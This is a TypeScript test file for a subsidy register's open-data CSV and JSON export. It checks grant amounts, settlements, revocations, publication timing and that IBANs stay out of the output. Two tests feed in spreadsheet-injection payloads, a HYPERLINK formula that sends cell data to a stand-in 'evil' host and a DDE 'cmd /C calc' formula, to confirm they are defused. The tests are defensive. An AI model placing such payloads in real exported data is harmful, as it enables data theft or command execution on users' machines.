import { parse } from "csv-parse/sync";
import { afterAll, expect, it } from "vitest";
import { disconnectPrisma, prisma } from "../../db/client.server.ts";
import type { DecisionOutcome, PlanStatus } from "../../generated/prisma/enums.ts";
import { loader as csvLoader } from "../../routes/open-data/csv.tsx";
import { loader as pageLoader } from "../../routes/open-data/index.tsx";
import { loader as jsonLoader } from "../../routes/open-data/json.tsx";
import { createScenario } from "../../test/scenario.server.ts";
import { now } from "../clock.ts";
import { revokeGrant } from "../decision/decide.server.ts";
import { regulationTermsForPlan } from "../decision/terms.server.ts";
import { grantTermsJson } from "../decision/terms.ts";
import { produceDecisionLetter } from "../documents/produce.server.ts";
import { REVOCATION_REASON, revocableScenarioPlan } from "../documents/revocation.test-support.ts";
import { produceRevocationLetter } from "../documents/revocation-letter.server.ts";
import { centsToDecimalString } from "../money.ts";
import { amsterdamDate } from "../time/local-date.ts";
import { grantedCsv, grantedJson, grantedTable } from "./granted.server.ts";

afterAll(async () => {
  await disconnectPrisma();
});

let n = 0;
/** A plan with its decision, made known to the applicant (its letter stored) unless `announced` is false. */
async function decidedPlan(
  s: Awaited<ReturnType<typeof createScenario>>,
  status: PlanStatus,
  outcome: DecisionOutcome,
  years: [number, bigint][],
  { announced = true, regionCodes = [] as string[] } = {},
) {
  n += 1;
  const plan = await prisma.plan.create({
    data: {
      reference: `OD-${s.tag}-${n}`,
      organisationId: s.orgA.id,
      regulationId: s.regulation.id,
      windowId: s.window.id,
      status,
      title: `Open-dataplan ${n}`,
      sectorCodes: regionCodes.length > 0 ? [] : ["5", "3"],
      regionCodes,
      periodStart: new Date(Date.UTC(s.year + 1, 0, 1)),
      periodEnd: new Date(Date.UTC(s.year + 2, 11, 31)),
      createdById: s.applicantA.userId,
    },
  });
  await prisma.decision.create({
    data: {
      planId: plan.id,
      outcome,
      reason: "test",
      decidedById: s.decisionMaker.userId,
      decidedAt: now(),
      announcedAt: announced ? now() : null,
      terms: grantTermsJson(await regulationTermsForPlan(prisma, plan.id)),
      years: { create: years.map(([year, grantedCents]) => ({ year, grantedCents })) },
    },
  });
  return plan;
}

/** Euros with a decimal comma ("1234,56") back to cents, exactly. */
function commaToCents(text: string): bigint {
  const m = /^(\d+),(\d{2})$/.exec(text);
  if (!m) throw new Error(`Not an amount: ${text}`);
  return BigInt(m[1] ?? "") * 100n + BigInt(m[2] ?? "");
}

it("publishes every granted plan with its decision's amounts per year; CSV and JSON read back equal to the database", async () => {
  const s = await createScenario();
  const y1 = s.year + 1;
  const y2 = s.year + 2;
  const granted = await decidedPlan(s, "GRANTED", "GRANTED", [
    [y1, 30_000_000n],
    [y2, 12_345_678_910n],
  ]);
  const partial = await decidedPlan(s, "IN_EXECUTION", "PARTIALLY_GRANTED", [[y1, 1n]]);
  const rejected = await decidedPlan(s, "REJECTED", "REJECTED", []);
  // A contact person, e-mail or IBAN must never reach the file.
  await prisma.organisation.update({ where: { id: s.orgA.id }, data: { iban: "NL02ABNA0123456789" } });

  const table = await grantedTable(prisma);
  const csv = grantedCsv(table);
  expect(csv.startsWith("\uFEFF")).toBe(true);
  expect(csv).not.toContain("NL02ABNA0123456789");
  expect(csv).not.toContain(rejected.reference);

  const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, delimiter: ";" });
  const json = grantedJson(table);
  expect(JSON.stringify(json)).not.toContain("NL02ABNA");

  // The database's own view of the granted plans, independently of the module's query: grants made
  // known and in force, and grants revoked since (WITHDRAWN with a revoke event).
  const decisions = await prisma.decision.findMany({
    where: {
      outcome: { in: ["GRANTED", "PARTIALLY_GRANTED"] },
      announcedAt: { not: null },
      plan: {
        OR: [
          {
            status: {
              in: ["GRANTED", "PARTIALLY_GRANTED", "IN_EXECUTION", "SETTLEMENT_REQUESTED", "SETTLED"],
            },
          },
          { status: "WITHDRAWN", events: { some: { event: "revoke" } } },
        ],
      },
    },
    select: { plan: { select: { reference: true } }, years: true },
  });
  expect(rows.length).toBe(decisions.length + 1); // + the totals row
  expect(json.plans.length).toBe(decisions.length);

  const grandTotal = decisions.flatMap((d) => d.years).reduce((sum, y) => sum + y.grantedCents, 0n);
  const totalsRow = rows.at(-1) as Record<string, string>;
  expect(totalsRow.Kenmerk).toBe("Totaal");
  expect(commaToCents(totalsRow["Toegekend totaal (EUR)"] ?? "")).toBe(grandTotal);
  expect(json.totals.grantedTotal).toBe(centsToDecimalString(grandTotal));

  for (const d of decisions) {
    const row = rows.find((r) => r.Kenmerk === d.plan.reference);
    const item = json.plans.find((p) => p.reference === d.plan.reference);
    expect(row, d.plan.reference).toBeDefined();
    let total = 0n;
    for (const y of d.years) {
      expect(commaToCents(row?.[`Toegekend ${y.year} (EUR)`] ?? "")).toBe(y.grantedCents);
      expect(item?.grantedPerYear[String(y.year)]).toBe(centsToDecimalString(y.grantedCents));
      total += y.grantedCents;
    }
    expect(commaToCents(row?.["Toegekend totaal (EUR)"] ?? "")).toBe(total);
    expect(item?.grantedTotal).toBe(centsToDecimalString(total));
  }

  const mine = rows.find((r) => r.Kenmerk === granted.reference);
  expect(mine).toMatchObject({
    "Naam sectorplan": "Open-dataplan 1",
    // Labels from the regulation's list, in the plan's order.
    Sector: "Bouwnijverheid en bouwinstallatie, Metalektro en metaalnijverheid",
    Hoofdaanvrager: s.orgA.name,
    Begindatum: `${y1}-01-01`,
    Einddatum: `${y2}-12-31`,
    Status: "toegekend",
    [`Toegekend ${y2} (EUR)`]: "123456789,10",
  });
  expect(rows.find((r) => r.Kenmerk === partial.reference)?.Status).toBe("in uitvoering");
  expect(json.plans.find((p) => p.reference === granted.reference)?.grantedPerYear).toEqual({
    [String(y1)]: "300000.00",
    [String(y2)]: "123456789.10",
  });
  expect(json.currency).toBe("EUR");
});

it("writes cents as exact decimals", () => {
  expect(centsToDecimalString(0n)).toBe("0.00");
  expect(centsToDecimalString(5n, ",")).toBe("0,05");
  expect(centsToDecimalString(12_345_678_901_234_567n)).toBe("123456789012345.67");
});

it("defuses a formula in the plan title and the organisation name; amounts stay numbers", () => {
  const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
  const csv = grantedCsv({
    generatedAt: new Date(0),
    years: [2025],
    plans: [
      {
        reference: "SP-2025-0001",
        title: hostile,
        regulation: "Sectorplannen",
        sectors: ["Bouw"],
        regions: [],
        leadApplicant: "+31 Opleidingen",
        periodStart: "2025-01-01",
        periodEnd: "2025-12-31",
        status: "SETTLED",
        years: new Map([[2025, -10_000n]]),
        totalCents: -10_000n,
        settledCents: null,
        settledOn: null,
        revokedOn: null,
      },
    ],
    totals: { years: new Map([[2025, -10_000n]]), totalCents: -10_000n, settledCents: 0n },
  });
  const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, delimiter: ";" });
  expect(rows[0]).toMatchObject({
    "Naam sectorplan": `'${hostile}`,
    Hoofdaanvrager: "'+31 Opleidingen",
    "Toegekend 2025 (EUR)": "-100,00",
    "Toegekend totaal (EUR)": "-100,00",
  });
  expect(rows[1]?.["Toegekend totaal (EUR)"]).toBe("-100,00");
});

it("quotes a cell with a lone line break, so that no spreadsheet starts a row (or a formula) inside it", () => {
  const title = "Sectorplan\n=cmd|' /C calc'!A0\rslot";
  const csv = grantedCsv({
    generatedAt: new Date(0),
    years: [2025],
    plans: [
      {
        reference: "SP-2025-0002",
        title,
        regulation: "Sectorplannen",
        sectors: ["Bouw"],
        regions: [],
        leadApplicant: "Stichting\nTwee regels",
        periodStart: "2025-01-01",
        periodEnd: "2025-12-31",
        status: "GRANTED",
        years: new Map([[2025, 10_000n]]),
        totalCents: 10_000n,
        settledCents: null,
        settledOn: null,
        revokedOn: null,
      },
    ],
    totals: { years: new Map([[2025, 10_000n]]), totalCents: 10_000n, settledCents: 0n },
  });
  // Read as a spreadsheet reads it: a row ends at CRLF, LF or CR outside quotes.
  const rows: Record<string, string>[] = parse(csv, {
    bom: true,
    columns: true,
    delimiter: ";",
    record_delimiter: ["\r\n", "\n", "\r"],
  });
  expect(rows).toHaveLength(2);
  expect(rows[0]?.["Naam sectorplan"]).toBe(title);
  expect(rows[0]?.Hoofdaanvrager).toBe("Stichting\nTwee regels");
});

it("publishes neither a verlenging before its letter (Awb 3:40) nor the demonstration regulation's grants", async () => {
  const s = await createScenario();
  const plan = await decidedPlan(s, "IN_EXECUTION", "GRANTED", [
    [s.year + 1, 30_000_000n],
    [s.year + 2, 30_000_000n],
  ]);
  const previousEnd = new Date(Date.UTC(s.year + 2, 11, 31));
  const newEnd = new Date(Date.UTC(s.year + 3, 5, 30));
  const extension = await prisma.planExtension.create({
    data: {
      planId: plan.id,
      status: "GRANTED",
      requestedMonths: 6,
      motivation: "Meer tijd nodig.",
      requestedById: s.applicantA.userId,
      requestedAt: now(),
      previousPeriodEnd: previousEnd,
      grantedMonths: 6,
      newPeriodEnd: newEnd,
      decidedById: s.decisionMaker.userId,
      decidedAt: now(),
    },
  });
  await prisma.plan.update({ where: { id: plan.id }, data: { periodEnd: newEnd } });
  const endOf = async () =>
    (await grantedTable(prisma)).plans.find((p) => p.reference === plan.reference)?.periodEnd;
  expect(await endOf()).toBe(`${s.year + 2}-12-31`);
  await prisma.document.create({
    data: {
      planId: plan.id,
      kind: "EXTENSION_DECISION",
      idempotencyKey: `extension-letter:${extension.id}`,
      title: "Besluit verlenging",
      filename: "besluit-verlenging.pdf",
      mimeType: "application/pdf",
      sha256: "0".repeat(64),
      byteSize: 1,
      storageKey: `test/${extension.id}`,
    },
  });
  expect(await endOf()).toBe(`${s.year + 3}-06-30`);

  await prisma.regulation.update({ where: { id: s.regulation.id }, data: { isDemonstration: true } });
  try {
    expect((await grantedTable(prisma)).plans.some((p) => p.reference === plan.reference)).toBe(false);
  } finally {
    await prisma.regulation.update({ where: { id: s.regulation.id }, data: { isDemonstration: false } });
  }
});

it("a settled plan shows what was granted and, in its own columns, what the vaststelling set and when; a revoked grant shows as revoked, set at nil", async () => {
  const s = await createScenario();
  const y1 = s.year + 1;
  const y2 = s.year + 2;
  // Granted € 600.000, settled lower at € 412.345,67 on 3 March (Amsterdam; 23:30 UTC is already the 4th there).
  const settled = await decidedPlan(s, "SETTLED", "GRANTED", [
    [y1, 30_000_000n],
    [y2, 30_000_000n],
  ]);
  await prisma.settlement.create({
    data: {
      planId: settled.id,
      plannedCostsCents: 120_000_000n,
      actualCostsCents: 82_469_134n,
      realisationBp: 6872,
      overheadCents: 0n,
      computedCents: 41_234_567n,
      proposedCents: 41_234_567n,
      proposedById: s.handler.userId,
      proposedAt: new Date(Date.UTC(y2 + 1, 1, 20)),
      proposalMotivation: "test",
      settledCents: 41_234_567n,
      settledById: s.decisionMaker.userId,
      settledAt: new Date(Date.UTC(y2 + 1, 2, 3, 23, 30)),
      announcedAt: new Date(Date.UTC(y2 + 1, 2, 4, 9)),
      reason: "test",
    },
  });
  // Proposed, not yet settled: no settled amount yet.
  const requested = await decidedPlan(s, "SETTLEMENT_REQUESTED", "GRANTED", [[y1, 10_000_000n]]);
  await prisma.settlement.create({
    data: {
      planId: requested.id,
      plannedCostsCents: 20_000_000n,
      actualCostsCents: 20_000_000n,
      realisationBp: 10_000,
      overheadCents: 0n,
      computedCents: 10_000_000n,
      proposedCents: 10_000_000n,
      proposedById: s.handler.userId,
      proposedAt: now(),
      proposalMotivation: "test",
    },
  });
  // Granted, then revoked (art. 5.2): the plan is WITHDRAWN and its revoke event says why.
  const revoked = await decidedPlan(s, "WITHDRAWN", "GRANTED", [[y1, 25_000_000n]]);
  await prisma.workflowEvent.create({
    data: {
      planId: revoked.id,
      event: "revoke",
      fromStatus: "GRANTED",
      toStatus: "WITHDRAWN",
      actorId: s.decisionMaker.userId,
      reason: "De uitvoering is niet binnen zes maanden begonnen.",
      planVersion: 2,
      createdAt: new Date(Date.UTC(y1, 6, 15, 9)),
    },
  });
  // Its beschikking tot intrekking, stored: the intrekking is made known.
  await prisma.document.create({
    data: {
      planId: revoked.id,
      kind: "REVOCATION_DECISION",
      idempotencyKey: `revocation-letter:${revoked.id}`,
      title: "Beschikking tot intrekking",
      filename: "beschikking-intrekking.pdf",
      mimeType: "application/pdf",
      sha256: "0".repeat(64),
      byteSize: 1,
      storageKey: `test/${revoked.id}`,
      createdAt: new Date(Date.UTC(y1, 6, 15, 9, 5)),
    },
  });
  // An application withdrawn before any decision is no grant: not published.
  const withdrawn = await decidedPlan(s, "WITHDRAWN", "REJECTED", []);
  await prisma.workflowEvent.create({
    data: {
      planId: withdrawn.id,
      event: "withdraw",
      fromStatus: "SUBMITTED",
      toStatus: "WITHDRAWN",
      planVersion: 2,
    },
  });

  const table = await grantedTable(prisma);
  const rows: Record<string, string>[] = parse(grantedCsv(table), {
    bom: true,
    columns: true,
    delimiter: ";",
  });
  const json = grantedJson(table);
  const row = (ref: string) => rows.find((r) => r.Kenmerk === ref);
  const item = (ref: string) => json.plans.find((p) => p.reference === ref);

  // The existing columns keep their names and their meaning: what the grant decision gave.
  expect(row(settled.reference)).toMatchObject({
    Status: "vastgesteld",
    [`Toegekend ${y1} (EUR)`]: "300000,00",
    [`Toegekend ${y2} (EUR)`]: "300000,00",
    "Toegekend totaal (EUR)": "600000,00",
    "Vastgesteld totaal (EUR)": "412345,67",
    Vaststellingsdatum: `${y2 + 1}-03-04`,
    Intrekkingsdatum: "",
  });
  expect(item(settled.reference)).toMatchObject({
    status: "SETTLED",
    grantedTotal: "600000.00",
    settledTotal: "412345.67",
    settledOn: `${y2 + 1}-03-04`,
    revokedOn: null,
  });
  expect(row(requested.reference)).toMatchObject({
    Status: "vaststelling aangevraagd",
    "Toegekend totaal (EUR)": "100000,00",
    "Vastgesteld totaal (EUR)": "",
    Vaststellingsdatum: "",
  });
  expect(item(requested.reference)).toMatchObject({ settledTotal: null, settledOn: null, revokedOn: null });

  expect(row(revoked.reference)).toMatchObject({
    Status: "ingetrokken",
    "Toegekend totaal (EUR)": "250000,00",
    "Vastgesteld totaal (EUR)": "0,00",
    Vaststellingsdatum: `${y1}-07-15`,
    Intrekkingsdatum: `${y1}-07-15`,
  });
  expect(item(revoked.reference)).toMatchObject({
    status: "REVOKED",
    statusLabel: "ingetrokken",
    grantedTotal: "250000.00",
    settledTotal: "0.00",
    settledOn: `${y1}-07-15`,
    revokedOn: `${y1}-07-15`,
  });
  expect(row(withdrawn.reference)).toBeUndefined();
  expect(item(withdrawn.reference)).toBeUndefined();

  // The totals row sums what was granted and, apart, what has been set.
  const settledSum = json.plans
    .filter((p) => p.settledTotal !== null)
    .reduce((sum, p) => sum + BigInt((p.settledTotal ?? "").replace(".", "")), 0n);
  expect(json.totals.settledTotal).toBe(centsToDecimalString(settledSum));
  expect(commaToCents(rows.at(-1)?.["Vastgesteld totaal (EUR)"] ?? "")).toBe(settledSum);
});

it("publishes a grant, and later its intrekking, only once each was made known to the applicant (Awb 3:40); until then the last state made known", async () => {
  const s = await createScenario();
  // Granted through the use cases, its decision seven months back; the letters worker has not run.
  const { planId, decisionId, version } = await revocableScenarioPlan(s);
  const plan = await prisma.plan.findUniqueOrThrow({
    where: { id: planId },
    select: { reference: true, decision: { select: { years: true, announcedAt: true } } },
  });
  expect(plan.decision?.announcedAt).toBeNull();
  const granted = (plan.decision?.years ?? []).reduce((sum, y) => sum + y.grantedCents, 0n);
  const published = async () =>
    grantedJson(await grantedTable(prisma)).plans.find((p) => p.reference === plan.reference);

  // Decided, but the beschikking is not yet with the applicant: the public does not see it either.
  expect(await published()).toBeUndefined();

  await produceDecisionLetter(decisionId);
  expect(await published()).toMatchObject({
    status: "GRANTED",
    grantedTotal: centsToDecimalString(granted),
    settledTotal: null,
    revokedOn: null,
  });

  // Revoked (art. 5.2), its letter not yet stored: the register still shows the grant.
  await revokeGrant(s.decisionMaker, planId, version, REVOCATION_REASON);
  expect((await prisma.plan.findUniqueOrThrow({ where: { id: planId } })).status).toBe("WITHDRAWN");
  expect(await published()).toMatchObject({
    status: "GRANTED",
    statusLabel: "toegekend",
    grantedTotal: centsToDecimalString(granted),
    settledTotal: null,
    settledOn: null,
    revokedOn: null,
  });

  // The beschikking tot intrekking stored (its bekendmaking): revoked, set at nil on its day.
  await produceRevocationLetter(planId);
  const event = await prisma.workflowEvent.findFirstOrThrow({ where: { planId, event: "revoke" } });
  expect(await published()).toMatchObject({
    status: "REVOKED",
    statusLabel: "ingetrokken",
    grantedTotal: centsToDecimalString(granted),
    settledTotal: "0.00",
    revokedOn: amsterdamDate(event.createdAt),
    settledOn: amsterdamDate(event.createdAt),
  });
});

it("publishes a vaststelling only once its letter was made available; until then the plan shows as vaststelling aangevraagd", async () => {
  const s = await createScenario();
  const y1 = s.year + 1;
  const plan = await decidedPlan(s, "SETTLED", "GRANTED", [[y1, 30_000_000n]]);
  const settlement = await prisma.settlement.create({
    data: {
      planId: plan.id,
      plannedCostsCents: 60_000_000n,
      actualCostsCents: 30_000_000n,
      realisationBp: 5000,
      overheadCents: 0n,
      computedCents: 0n,
      proposedCents: 0n,
      proposedById: s.handler.userId,
      proposedAt: now(),
      proposalMotivation: "test",
      settledCents: 0n,
      settledById: s.decisionMaker.userId,
      settledAt: now(),
      reason: "test",
    },
  });
  const published = async () => {
    const table = await grantedTable(prisma);
    const rows: Record<string, string>[] = parse(grantedCsv(table), {
      bom: true,
      columns: true,
      delimiter: ";",
    });
    return {
      item: grantedJson(table).plans.find((p) => p.reference === plan.reference),
      row: rows.find((r) => r.Kenmerk === plan.reference),
    };
  };
  const before = await published();
  expect(before.item).toMatchObject({ status: "SETTLEMENT_REQUESTED", settledTotal: null, settledOn: null });
  expect(before.row).toMatchObject({
    Status: "vaststelling aangevraagd",
    "Toegekend totaal (EUR)": "300000,00",
    "Vastgesteld totaal (EUR)": "",
    Vaststellingsdatum: "",
  });

  await prisma.settlement.update({ where: { id: settlement.id }, data: { announcedAt: now() } });
  const after = await published();
  expect(after.item).toMatchObject({
    status: "SETTLED",
    settledTotal: "0.00",
    settledOn: amsterdamDate(now()),
  });
  expect(after.row).toMatchObject({ Status: "vastgesteld", "Vastgesteld totaal (EUR)": "0,00" });
});

it("a regional plan (coverage REGIONS, no sector) is published with its labour-market regions: CSV's last column, JSON, page", async () => {
  const s = await createScenario();
  await prisma.regulation.update({
    where: { id: s.regulation.id },
    data: {
      regions: [
        { code: "GR", label: "Groningen" },
        { code: "RM", label: "Rijnmond" },
        { code: "UT", label: "Midden-Utrecht" },
      ],
    },
  });
  const regional = await decidedPlan(s, "GRANTED", "GRANTED", [[s.year + 1, 30_000_000n]], {
    regionCodes: ["RM", "GR"],
  });
  const table = await grantedTable(prisma);

  const lines = parse(grantedCsv(table), { bom: true, delimiter: ";" }) as string[][];
  const header = lines[0] ?? [];
  expect(header.at(-1)).toBe("Arbeidsmarktregio");
  // The columns before it stay where they were: consumers read by position.
  expect(header.slice(0, 8)).toEqual([
    "Kenmerk",
    "Naam sectorplan",
    "Regeling",
    "Sector",
    "Hoofdaanvrager",
    "Begindatum",
    "Einddatum",
    "Status",
  ]);
  expect(header.at(-2)).toBe("Intrekkingsdatum");
  const row = lines.find((r) => r[0] === regional.reference);
  expect(row?.[3]).toBe("");
  // In the plan's order.
  expect(row?.at(-1)).toBe("Rijnmond, Groningen");
  expect(lines.at(-1)?.length).toBe(header.length);

  const item = grantedJson(table).plans.find((p) => p.reference === regional.reference);
  expect(item).toMatchObject({ sectors: [], regions: ["Rijnmond", "Groningen"] });

  const page = (await pageLoader()) as unknown as {
    data: { plans: { reference: string; regions: string[] }[] };
  };
  expect(page.data.plans.find((p) => p.reference === regional.reference)?.regions).toEqual([
    "Rijnmond",
    "Groningen",
  ]);
});

it("the CSV and JSON downloads carry the new columns after the existing ones, by the names the page describes", async () => {
  const csv = await (await csvLoader()).text();
  const header =
    csv
      .replace(/^\uFEFF/, "")
      .split("\r\n")[0]
      ?.split(";") ?? [];
  // Existing columns first, in their order; then the granted total; then the new ones.
  expect(header.slice(0, 8)).toEqual([
    "Kenmerk",
    "Naam sectorplan",
    "Regeling",
    "Sector",
    "Hoofdaanvrager",
    "Begindatum",
    "Einddatum",
    "Status",
  ]);
  expect(header.slice(-5)).toEqual([
    "Toegekend totaal (EUR)",
    "Vastgesteld totaal (EUR)",
    "Vaststellingsdatum",
    "Intrekkingsdatum",
    "Arbeidsmarktregio",
  ]);
  const json = (await (await jsonLoader()).json()) as {
    plans: Record<string, unknown>[];
    totals: Record<string, unknown>;
  };
  for (const p of json.plans) {
    expect(Object.keys(p)).toEqual(
      expect.arrayContaining([
        "grantedPerYear",
        "grantedTotal",
        "settledTotal",
        "settledOn",
        "revokedOn",
        "regions",
      ]),
    );
  }
  expect(json.totals).toHaveProperty("settledTotal");
});
